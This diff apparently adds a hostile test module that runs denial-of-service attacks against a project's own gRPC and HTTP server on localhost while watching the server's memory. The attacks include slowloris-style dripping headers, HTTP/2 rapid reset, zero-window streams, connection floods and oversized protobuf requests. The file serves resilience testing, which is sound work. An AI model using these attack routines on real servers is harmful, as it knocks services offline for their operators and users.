@@ -1,0 +1,442 @@
+"""The attacks of tests/hostile, each a function that runs for some seconds. As a program it runs one of them, so that
+it takes no time from the client that is measured beside it:
+
+    python attacks.py NAME '{"grpc_port": ..., "http_port": ..., "pid": ..., "seconds": 10, ...}'
+
+It prints "started" when the attack stands, and what it counted, as JSON, when it ends. It ends at
+SIGTERM, and early, counting "stopped_early", where the server has grown by more than `most_growth`: that proves the
+point.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import errno
+import json
+import math
+import signal
+import socket
+import sys
+import threading
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import http2
+from http2 import Connection
+
+Counts = dict[str, float]
+
+
+@dataclass
+class Target:
+    grpc_port: int
+    http_port: int
+    pid: int
+    seconds: float
+    source: str = "127.0.0.2"
+    most_growth: int = 2 << 30
+
+    def __post_init__(self) -> None:
+        self._end = time.monotonic() + self.seconds
+        self._first_rss = self._rss()
+        self._next_look = 0.0
+        self.stopped_early = False
+
+    def is_over(self) -> bool:
+        now = time.monotonic()
+        if now >= self._next_look:
+            self._next_look = now + 0.05
+            rss = self._rss()
+            if rss > self._first_rss + self.most_growth:
+                self.stopped_early = True
+            if rss == 0:
+                self.stop()  # the server has ended
+        return self.stopped_early or now >= self._end
+
+    def stop(self, *_: object) -> None:
+        self._end = 0.0
+
+    def hold(self) -> None:
+        """Blocks to the end."""
+        while not self.is_over():
+            time.sleep(0.1)
+
+    def _rss(self) -> int:
+        with contextlib.suppress(OSError):
+            return int(Path(f"/proc/{self.pid}/statm").read_text().split()[1]) * 4096
+        return 0
+
+
+def started() -> None:
+    print("started", flush=True)
+
+
+# ---- connections
+
+
+def silent_connections(
+    target: Target, number: int = 1300, addresses: int = 26, http: bool = False, greeting: bool = False
+) -> Counts:
+    """Opens connections from as many addresses, which send nothing (`greeting`: nothing behind HTTP/2's first frame),
+    and again those that the server closes.
+    """
+    address = ("127.0.0.1", target.http_port if http else target.grpc_port)
+    held: dict[int, socket.socket] = {}
+    connected: set[int] = set()
+    tried = opened = closed = most = 0
+    begin = time.monotonic()
+    is_started = False
+    while not target.is_over():
+        for i in range(number):
+            if i not in held:
+                held[i] = socket.socket()
+                held[i].setblocking(False)
+                held[i].bind((f"127.0.{32 if http else 16}.{i % addresses + 1}", 0))
+                held[i].connect_ex(address)
+                tried += 1
+                if i % 4 == 0:
+                    time.sleep(0.002)  # a burst would not fit into the listener's backlog
+                continue
+            try:
+                if i not in connected:
+                    held[i].getpeername()
+                    connected.add(i)
+                    opened += 1
+                    if greeting:
+                        held[i].send(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
+                if held[i].recv(1 << 12):
+                    continue  # the server's SETTINGS
+            except BlockingIOError:
+                continue
+            except OSError as error:
+                if error.errno == errno.ENOTCONN and held[i].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+                    continue  # on its way
+            closed += i in connected
+            connected.discard(i)
+            held.pop(i).close()
+        most = max(most, len(connected))
+        if not is_started and (len(connected) > 0.95 * number or time.monotonic() > begin + 5):
+            started()
+            is_started = True
+        time.sleep(0.05)
+    for one in held.values():
+        one.close()
+    return {"tried": tried, "opened": opened, "closed_by_server": closed, "most_at_once": most}
+
+
+def dripping_http(target: Target, number: int = 40) -> Counts:
+    """Connections that send a header's byte each half second, and again where the server closes them."""
+    held: list[socket.socket | None] = [None] * number
+    closed = 0
+    request = b"GET /metrics HTTP/1.1\r\nHost: voxserve\r\nX-Drip: "
+    started()
+    while not target.is_over():
+        for i, one in enumerate(held):
+            try:
+                if one is None:
+                    one = held[i] = socket.create_connection(
+                        ("127.0.0.1", target.http_port), 1, source_address=(target.source, 0)
+                    )
+                    one.sendall(request)
+                else:
+                    one.sendall(b"x")
+            except OSError:
+                closed += one is not None
+                if one is not None:
+                    one.close()
+                held[i] = None
+        time.sleep(0.5)
+    for one in held:
+        if one is not None:
+            one.close()
+    return {"closed_by_server": closed}
+
+
+def endless_http(target: Target, kind: str = "chunks", number: int = 4) -> Counts:
+    """Requests without an end: chunks of a body, a request line or a header."""
+    begin = {
+        "chunks": b"POST /metrics HTTP/1.1\r\nHost: v\r\nTransfer-Encoding: chunked\r\n\r\n",
+        "line": b"GET /",
+        "header": b"GET /metrics HTTP/1.1\r\nHost: v\r\nX-Long: ",
+    }[kind]
+    piece = b"10000\r\n" + b"x" * 65536 + b"\r\n" if kind == "chunks" else b"x" * 65536
+    sent = [0] * number
+    closed = [0] * number
+
+    def send(i: int) -> None:
+        while not target.is_over():
+            with contextlib.suppress(OSError):
+                address = ("127.0.0.1", target.http_port)
+                with socket.create_connection(address, 2, source_address=(target.source, 0)) as one:
+                    one.sendall(begin)
+                    while not target.is_over():
+                        one.sendall(piece)
+                        sent[i] += len(piece)
+            closed[i] += 1
+            time.sleep(0.01)
+
+    started()
+    _run_side_by_side(number, send)
+    return {"sent_mib": round(sum(sent) / 2**20), "closed_by_server": sum(closed)}
+
+
+# ---- calls
+
+
+def headers_without_body(target: Target, number: int = 700_000, path: str = http2.INFER) -> Counts:
+    """Calls whose body never comes, over one connection at a time, which never acknowledges the server's SETTINGS and
+    so its limit on streams. Where the server closes it, another goes on; with all calls begun it stays open.
+    """
+    block = http2.header_block(path)
+    chunk = 500
+    begun = connections = closed = 0
+    is_started = False
+    while not target.is_over() and begun < number:
+        try:
+            with Connection(target.grpc_port, target.source, acknowledge=False) as connection:
+                connections += 1
+                while not target.is_over() and not connection.is_closed and begun < number:
+                    frames = [http2.call_frames(s, block) for s in connection.streams(chunk)]
+                    connection.send(b"".join(frames))
+                    begun += chunk
+                    if not is_started:
+                        started()
+                        is_started = True
+                while not target.is_over() and not connection.is_closed:
+                    time.sleep(0.05)
+                closed += connection.is_closed
+        except OSError:
+            closed += 1
+            time.sleep(0.01)
+    if not is_started:
+        started()
+    target.hold()
+    return {"begun": begun, "connections": connections, "closed_by_server": closed}
+
+
+def rapid_reset(target: Target, number: int = 2) -> Counts:
+    """Calls that are reset as soon as they are begun, over `number` connections at a time."""
+    block = http2.header_block(http2.INFER)
+    begun = [0] * number
+    opened = [0] * number
+    closed = [0] * number
+
+    def attack(i: int) -> None:
+        reset = b"\x00\x00\x00\x08"
+        while not target.is_over():
+            try:
+                with Connection(target.grpc_port, target.source) as connection:
+                    opened[i] += 1
+                    while not target.is_over() and not connection.is_closed:
+                        frames = [
+                            http2.call_frames(s, block) + http2.frame(http2.RST_STREAM, 0, s, reset)
+                            for s in connection.streams(200)
+                        ]
+                        connection.send(b"".join(frames))
+                        begun[i] += 200
+                    closed[i] += connection.is_closed
+            except OSError:
+                closed[i] += 1
+            time.sleep(0.01)
+
+    started()
+    _run_side_by_side(number, attack)
+    return {"begun": sum(begun), "connections": sum(opened), "closed_by_server": sum(closed)}
+
+
+def unread_answers(target: Target, number: int = 4200, in_flight: int = 48) -> Counts:
+    """Calls over one connection whose windows never open, so that no answer can leave. At most `in_flight` have no
+    headers of an answer yet, so that no queue is full. Where the server closes the connection, another goes on.
+    """
+    from calls import infer_request, scan
+
+    block = http2.header_block(http2.INFER)
+    request = infer_request(scan(1))
+    begun = answered = unread = connections = closed = 0
+    is_started = False
+    while not target.is_over():
+        try:
+            with Connection(target.grpc_port, target.source, window=0) as connection:
+                connections += 1
+                begun_here = 0
+                while not target.is_over() and not connection.is_closed and begun_here < number:
+                    room = in_flight - (begun_here - len(connection.begun))
+                    if room <= 0:
+                        time.sleep(0.002)
+                        continue
+                    connection.send(b"".join(http2.call_frames(s, block, request) for s in connection.streams(room)))
+                    begun_here += room
+                    begun += room
+                    unread = max(unread, len(connection.begun) - len(connection.ended))
+                if not is_started:
+                    started()
+                    is_started = True
+                while not target.is_over() and not connection.is_closed:
+                    time.sleep(0.05)
+                unread = max(unread, len(connection.begun) - len(connection.ended))
+                answered += len(connection.begun)
+                closed += connection.is_closed
+        except OSError:
+            closed += 1
+            time.sleep(0.01)
+    if not is_started:
+        started()
+    return {
+        "begun": begun,
+        "answered": answered,
+        "most_unread": unread,
+        "connections": connections,
+        "closed_by_server": closed,
+    }
+
+
+def silent_streams(target: Target, number: int = 1024, connections: int = 8, again: bool = False) -> Counts:
+    """InferStreams that send no config. again: those that the server ends are opened anew."""
+    block = http2.header_block(http2.INFER_STREAM)
+    share = number // connections
+    held: list[Connection | None] = [None] * connections
+    opened = ended = closed = 0
+    is_started = False
+    seconds_to_end = math.nan
+    start = time.monotonic()
+    while not target.is_over():
+        for i, one in enumerate(held):
+            try:
+                if one is not None and one.is_closed:
+                    closed += 1
+                    ended += len(one.ended)
+                    one.close()
+                    held[i] = one = None
+                if one is None and (again or not is_started):
+                    one = held[i] = Connection(target.grpc_port, target.source)
+                    one.send(b"".join(http2.call_frames(s, block) for s in one.streams(share)))
+                    opened += share
+                elif one is not None and again and one.ended:
+                    count = len(one.ended)
+                    one.ended.clear()
+                    ended += count
+                    one.send(b"".join(http2.call_frames(s, block) for s in one.streams(count)))
+                    opened += count
+            except OSError:
+                held[i] = None
+                closed += 1
+        if not is_started:
+            started()
+            is_started = True
+            start = time.monotonic()
+        if math.isnan(seconds_to_end) and all(one is None or len(one.ended) >= share for one in held):
+            seconds_to_end = time.monotonic() - start
+        time.sleep(0.2)
+    left = 0
+    for one in held:
+        if one is not None:
+            ended += len(one.ended)
+            left += share - min(share, len(one.ended)) if not again else 0
+            one.close()
+    return {
+        "opened": opened,
+        "ended_by_server": ended,
+        "connections_closed": closed,
+        "left": left,
+        "seconds_to_end": seconds_to_end,
+    }
+
+
+# ---- messages
+
+
+def empty_fields(target: Target, megabytes: int = 60) -> Counts:
+    """Requests of nothing but empty fields, one after the other."""
+    from calls import call
+    from forwarder import Forwarder
+
+    request = empty_fields_request(megabytes << 20)
+    refused = 0
+    started()
+    with Forwarder(target.grpc_port, target.source) as forwarder:
+        while not target.is_over():
+            refused += not call(forwarder.address, request, 30).is_ok
+            time.sleep(0.2)
+    return {"refused": refused}
+
+
+def empty_fields_request(num_bytes: int) -> bytes:
+    """An InferRequest whose cloud has nothing but `fields {}`, two bytes each."""
+    fields = b"\x22\x00" * (num_bytes // 2)
+    return b"\x0a\x08minkunet\x1a" + varint(len(fields)) + fields
+
+
+def varint(value: int) -> bytes:
+    out = bytearray()
+    while value > 127:
+        out.append(value & 127 | 128)
+        value >>= 7
+    out.append(value)
+    return bytes(out)
+
+
+def calls_in_flight(target: Target, number: int = 64, num_points: int = 30_000) -> Counts:
+    """One client that has `number` calls of a large cloud in flight at any time."""
+    from calls import answer_of, channel, infer_request, scan, start_call
+    from forwarder import Forwarder
+
+    request = infer_request(scan(num_points))
+    answered = refused = 0
+    is_started = False
+    with Forwarder(target.grpc_port, target.source) as forwarder, channel(forwarder.address) as to:
+        calls: list[Any] = []
+        while not target.is_over():
+            for done in [c for c in calls if c.done()]:
+                calls.remove(done)
+                if answer_of(done.result).is_ok:
+                    answered += 1
+                else:
+                    refused += 1
+            calls += [start_call(to, request, 60) for _ in range(number - len(calls))]
+            if not is_started:
+                time.sleep(1)
+                started()
+                is_started = True
+            time.sleep(0.02)
+        for one in calls:
+            one.cancel()
+    return {"answered": answered, "refused": refused}
+
+
+def _run_side_by_side(number: int, function: Callable[[int], None]) -> None:
+    threads = [threading.Thread(target=function, args=(i,), daemon=True) for i in range(number)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+ATTACKS: dict[str, Callable[..., Counts]] = {
+    f.__name__: f
+    for f in (
+        silent_connections,
+        dripping_http,
+        endless_http,
+        headers_without_body,
+        rapid_reset,
+        unread_answers,
+        silent_streams,
+        empty_fields,
+        calls_in_flight,
+    )
+}
+
+
+def main(name: str, text: str) -> None:
+    options = json.loads(text)
+    target = Target(**{k: options.pop(k) for k in list(options) if k in Target.__dataclass_fields__})
+    signal.signal(signal.SIGTERM, target.stop)
+    counts = ATTACKS[name](target, **options)
+    print(json.dumps({**counts, "stopped_early": target.stopped_early}))
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
